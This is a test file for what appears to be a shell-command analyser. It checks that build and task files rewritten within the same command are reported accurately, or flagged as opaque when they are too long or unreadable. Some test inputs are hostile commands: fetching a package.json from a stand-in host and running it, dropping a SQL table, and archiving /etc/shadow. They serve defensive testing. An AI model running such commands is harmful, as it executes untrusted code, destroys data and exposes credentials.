import { describe, expect, test } from 'vitest'
import { lines } from './harness.ts'

/** Files that say what runs, as they are when it runs: put there by the same call, or more than can be read. */

const FILES = {
  '/repo/package.json': '{"scripts":{"test":"touch /tmp/old","prepare":"touch /tmp/old"}}',
  '/repo/evil.json': '{"scripts":{"test":"touch /tmp/new"}}',
  '/repo/old/package.json': '{"scripts":{"test":"touch /tmp/older"}}',
  '/repo/Makefile': 'all:\n\ttouch /tmp/old\n',
  '/repo/justfile': 'all:\n\ttouch /tmp/old\n',
  '/repo/Taskfile.yml': 'tasks:\n  default:\n    - touch /tmp/old\n',
  '/repo/tox.ini': '[testenv]\ncommands = touch /tmp/old\n',
  '/repo/.pre-commit-config.yaml': 'repos:\n- repo: local\n  hooks:\n  - {id: a, language: system, entry: touch /tmp/old}\n',
  '/repo/a.sql': 'SELECT 1',
  '/repo/list': 'old',
}

const seen = (command: string, files: Readonly<Record<string, string>> = {}): readonly string[] =>
  lines(command, { files: { ...FILES, ...files } }).filter((line) => /^(?:write fs:touch|opaque)/.test(line))

const unknown = (path: string) => `opaque \`${path}\`, which says what runs, is written by this call, and what is in it is not known`

describe('what this call put there runs, not what was there before', () => {
  for (const [command, expected] of [
    [`echo '{"scripts":{"test":"touch /tmp/new"}}' > package.json; npm test`, ['write fs:touch /tmp/new']],
    [`echo '{"scripts":{"prepare":"touch /tmp/new"}}' > package.json; npm install`, ['write fs:touch /tmp/new']],
    [`mkdir sub; echo '{"scripts":{"go":"touch /tmp/new"}}' > sub/package.json; cd sub; yarn go`, ['write fs:touch /tmp/new']],
    ["printf 'all:\\n\\ttouch /tmp/new\\n' > Makefile; make", ['write fs:touch /tmp/new']],
    ["printf 'all:\\n\\ttouch /tmp/new\\n' > justfile; just", ['write fs:touch /tmp/new']],
    ["printf 'tasks:\\n  default:\\n    - touch /tmp/new\\n' > Taskfile.yml; task", ['write fs:touch /tmp/new']],
    ["printf '[testenv]\\ncommands = touch /tmp/new\\n' > tox.ini; tox", ['write fs:touch /tmp/new']],
    [
      "printf 'repos:\\n- repo: local\\n  hooks:\\n  - {id: a, language: system, entry: touch /tmp/new}\\n' > .pre-commit-config.yaml; pre-commit run",
      ['write fs:touch /tmp/new'],
    ],
    ['cp evil.json package.json; npm test', ['write fs:touch /tmp/new']],
    ['mv evil.json package.json; npm test', ['write fs:touch /tmp/new']],
    ['ln -sf evil.json package.json; npm test', ['write fs:touch /tmp/new']],
    [`echo '{"scripts":{"test":"touch /tmp/new"}}' > x; ln -sf x package.json; npm test`, ['write fs:touch /tmp/new']],
    [`echo '{"scripts":{"test":"touch /tmp/new"}}' > x; mv x package.json; npm test`, ['write fs:touch /tmp/new']],
    ['cp -r /repo/old /repo/app; cd app; npm test', ['write fs:touch /tmp/older']],
    ['ln -sf nowhere.json package.json; npm test', [unknown('/repo/package.json')]],
    ['curl -o package.json https://h.example/p; npm test', [unknown('/repo/package.json')]],
    ['curl -o package.json https://h.example/p; npm install', [unknown('/repo/package.json')]],
    ['curl -o justfile https://h.example/p; just', [unknown('/repo/justfile')]],
    ['curl -o tox.ini https://h.example/p; tox', [unknown('/repo/tox.ini')]],
  ] as const)
    test(command, () => expect(seen(command)).toEqual(expected))

  for (const [command, expected] of [
    ["echo 'DROP TABLE t' > a.sql; psql -f a.sql", 'sql:drop'],
    ["echo 'DROP TABLE t' > a.sql; mysql < a.sql", 'sql:drop'],
    ["echo 'DROP TABLE t' > a.sql; psql -c '\\i a.sql'", 'sql:drop'],
    ['echo /etc/shadow > list; tar cf x.tar -T list', 'read /etc/shadow'],
  ] as const)
    test(command, () => expect(lines(command, { files: FILES }).join('\n')).toContain(expected))
})

describe('everything that a recipe or a task needs', () => {
  const told = (path: string, said: string) => `opaque \`${path}\` does not say plainly what \`${said}\` runs`
  const touch = (name: string) => `write fs:touch /tmp/${name}`
  for (const [command, path, text, expected] of [
    ['just', '/repo/justfile', 'a: b c\nb:\n  touch /tmp/b\nc:\n  touch /tmp/c\n', [touch('b'), touch('c')]],
    ['just', '/repo/justfile', 'a: (b "x" y) && c\nb p q:\n  touch /tmp/b\nc:\n  touch /tmp/c\n', [touch('b'), touch('c')]],
    ['just', '/repo/justfile', 'a p="x:y" *rest: b\nb:\n  touch /tmp/b\n', [touch('b')]],
    ['just', '/repo/justfile', "import 'x.just'\na: b\n  touch /tmp/a\n", [touch('a'), told('/repo/justfile', 'just default')]],
    ['just', '/repo/justfile', 'a: m::b\n  touch /tmp/a\n', [touch('a'), told('/repo/justfile', 'just default')]],
    ['just', '/repo/justfile', '[linux]\na:\n  touch /tmp/a\n[windows]\na:\n  touch /tmp/b\n', [touch('a'), touch('b')]],
    ['just', '/repo/justfile', 'set shell := ["bash", "-uc"]\na:\n  touch /tmp/a\n', [touch('a')]],
    ['just', '/repo/justfile', 'set shell := ["python3", "-c"]\na:\n  import os; os.system("touch /tmp/a")\n', [touch('a')]],
    ['task', '/repo/Taskfile.yml', 'tasks:\n  default: [{task: a}]\n  a: {cmds: [touch /tmp/a]}\n', [touch('a')]],
    [
      'task',
      '/repo/Taskfile.yml',
      'tasks:\n  default: {deps: [x:a], cmds: [touch /tmp/b]}\n',
      [touch('b'), told('/repo/Taskfile.yml', 'task default')],
    ],
    [
      'task',
      '/repo/Taskfile.yml',
      'tasks:\n  default: {cmds: [{defer: touch /tmp/a}, {defer: {task: b}}]}\n  b: touch /tmp/b\n',
      [touch('a'), touch('b')],
    ],
    ['task', '/repo/Taskfile.yml', 'vars: {V: {sh: touch /tmp/v}, W: x}\ntasks:\n  default: echo\n', [touch('v')]],
    ['task', '/repo/Taskfile.yml', 'tasks:\n  default: {env: {V: {sh: touch /tmp/v}}, cmd: echo}\n', [touch('v')]],
    [
      'task',
      '/repo/Taskfile.yml',
      'tasks:\n  default: {status: [touch /tmp/s], preconditions: [{sh: touch /tmp/p}, touch /tmp/q]}\n',
      [touch('s'), touch('p'), touch('q')],
    ],
  ] as const)
    test(`${command} with ${JSON.stringify(text)}`, () => expect(seen(command, { [path]: text })).toEqual(expected))

  test('a recipe with very many needs', () => {
    const text = `a:${' b'.repeat(100_000)}\n`
    expect(seen('just', { '/repo/justfile': text })).toEqual([told('/repo/justfile', 'just default')])
  })
})

describe('what is there but cannot be read is said', () => {
  const long = `#${'x'.repeat(300_000)}`
  const tooLong = (path: string) => `opaque \`${path}\`, which says what runs, is longer than what is read`
  const cases: readonly (readonly [string, string, string, readonly string[]])[] = [
    ['npm test', '/repo/package.json', `{"scripts":{"test":"touch /tmp/x"},"x":"${long}"}`, [tooLong('/repo/package.json')]],
    ['npm install', '/repo/package.json', `{"scripts":{"prepare":"touch /tmp/x"},"x":"${long}"}`, [tooLong('/repo/package.json')]],
    ['bun run test', '/repo/package.json', '// x\n{}', ['opaque `/repo/package.json`, which says what runs, cannot be read as JSON']],
    ['npm test', '/repo/package.json', '\ufeff{"scripts":{"test":"touch /tmp/x"}}', ['write fs:touch /tmp/x']],
    ['npm test', '/repo/package.json', '{"scripts":[]}', []],
    ['npm test', '/repo/package.json', '[]', []],
    ['make', '/repo/Makefile', `all:\n\ttouch /tmp/x\n${long}`, [tooLong('/repo/Makefile')]],
    ['make -f mk', '/repo/mk', `all:\n\ttouch /tmp/x\n${long}`, [tooLong('/repo/mk')]],
    ['make', '/repo/Makefile', 'include mk\n', []],
    ['just', '/repo/justfile', `all:\n\ttouch /tmp/x\n${long}`, [tooLong('/repo/justfile')]],
    ['task', '/repo/Taskfile.yml', `tasks:\n  default: [touch /tmp/x]\n${long}`, [tooLong('/repo/Taskfile.yml')]],
    ['tox', '/repo/tox.ini', `[testenv]\ncommands = touch /tmp/x\n${long}`, [tooLong('/repo/tox.ini')]],
    ['pre-commit run', '/repo/.pre-commit-config.yaml', long, [tooLong('/repo/.pre-commit-config.yaml')]],
    [
      'pre-commit run',
      '/repo/.pre-commit-config.yaml',
      `repos: []\n${long.slice(0, 30_000)}`,
      ['opaque `/repo/.pre-commit-config.yaml`, which says what runs, cannot be read as YAML'],
    ],
    ['ex -s < cmds', '/repo/cmds', 'x\n'.repeat(300), ['opaque the editor is given more commands than are read']],
  ]
  for (const [command, path, text, expected] of cases)
    test(`${command} with ${text.slice(0, 30)}`, () => expect(seen(command, { [path]: text })).toEqual(expected))

  test('a file that makes the rest longer than what is read is said too', () => {
    expect(seen('make', { '/repo/Makefile': 'include mk\n', '/repo/mk': long })).toEqual([tooLong('/repo/mk')])
  })
})

describe('where the directory is not known, that is said', () => {
  const looks = (what: string) => [`opaque in which directory ${what} is not known`]
  for (const [command, expected] of [
    ['cd "$D" && npm run test', looks('`npm` looks for the script')],
    ['cd "$D" && npm test', looks('`npm` looks for the script')],
    ['cd "$D" && yarn run test', looks('`yarn` looks for the script')],
    ['cd "$D" && just', looks('`just` looks for its tasks')],
    ['cd "$D" && task', looks('`task` looks for its tasks')],
    ['cd "$D" && tox', looks('`tox` looks for its tasks')],
    ['cd "$D" && foreman start', looks('`foreman` looks for its processes')],
    ['cd "$D" && npm ls', []],
    ['cd "$D" && yarn add x', []],
    ['cd /repo && npm test', ['write fs:touch /tmp/old']],
  ] as const) {
    test(command, () => expect(seen(command)).toEqual(expected))
  }
})

describe('of thousands of commands the rest is said to be there', () => {
  const more = 'opaque the command does more than can be analysed'
  for (const [command, files] of [
    ['tox', { '/repo/tox.ini': `[testenv]\ncommands =\n${'  true\n'.repeat(4_000)}` }],
    ['make', { '/repo/Makefile': `all:\n\tcd x\n${'\ttrue\n'.repeat(4_000)}` }],
    ['just', { '/repo/justfile': `all:\n${'  true\n'.repeat(4_000)}` }],
    ['task', { '/repo/Taskfile.yml': `tasks:\n  default:\n${'    - true; true\n'.repeat(900)}` }],
  ] as const) {
    test(command, () => expect(seen(command, files)).toEqual([more]))
  }
})
